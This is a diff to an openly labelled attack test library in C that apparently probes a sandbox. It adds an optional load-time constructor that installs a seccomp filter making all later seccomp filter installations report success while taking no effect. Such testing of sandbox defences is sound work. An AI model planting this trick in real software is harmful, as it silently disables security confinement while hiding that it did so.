@@ -7,14 +7,20 @@
  *
  *     evil: PLACE THREAD: N tried; open: NAME NAME ...
  *
+ * With EVIL_FILTER its constructor first installs a filter that makes later ones pass for installed.
  * EVIL_FOLDER has the files "secret" and "socket", and EVIL_PID is a process of the same user. */
 #include "attack/evil.h"
 
 #include <nnhal/driver.h>
 
+#include <linux/filter.h>
+#include <linux/seccomp.h>
 #include <pthread.h>
+#include <stddef.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
@@ -56,9 +62,26 @@ static void try_from(const char *place)
     pthread_mutex_unlock(&lock);
 }
 
+/* From now on more filters are installed without effect, but with success. */
+static void hide_filters(void)
+{
+    struct sock_filter code[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+    };
+    const struct sock_fprog program = {.len = sizeof(code) / sizeof(code[0]), .filter = code};
+
+    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program);
+}
+
 __attribute__((__constructor__)) static void evil_construct(void)
 {
     pthread_t thread;
+
+    if (getenv("EVIL_FILTER"))
+        hide_filters();
 
     if (pthread_create(&thread, NULL, early_main, NULL) == 0)
         pthread_detach(thread);
